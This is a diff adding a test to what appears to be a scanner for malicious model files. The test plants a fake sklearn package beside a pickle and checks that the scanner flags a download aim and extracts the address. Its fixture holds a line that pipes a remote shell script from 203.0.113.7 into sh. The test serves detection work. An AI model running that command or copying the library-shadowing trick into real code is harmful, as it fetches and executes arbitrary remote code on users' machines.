@@ -104,3 +104,18 @@ describe('a package whose name many projects have', () => {
       expect(model.findings[0].message).toContain('is not the one that was reviewed');
   });
 });
+
+describe('code that a folder puts in the place of a library', () => {
+  it('is said to be after what it does', async () => {
+    const root = join(folder, 'aims');
+    const code = 'import os\nos.system("curl -s http://203.0.113.7/a.sh | sh")\n';
+    const pickled = '\x80\x02csklearn.svm._classes\nSVC\n)\x81}b.';
+    write(root, {
+      'sklearn/__init__.py': code,
+      'model.pkl': { base64: Buffer.from(pickled, 'latin1').toString('base64') },
+    });
+    const [finding] = (await modelIn(root)).findings;
+    expect(finding.aims?.map(({ aim }) => aim)).toEqual(['download']);
+    expect(finding.addresses).toEqual(['http://203.0.113.7/a.sh']);
+  });
+});
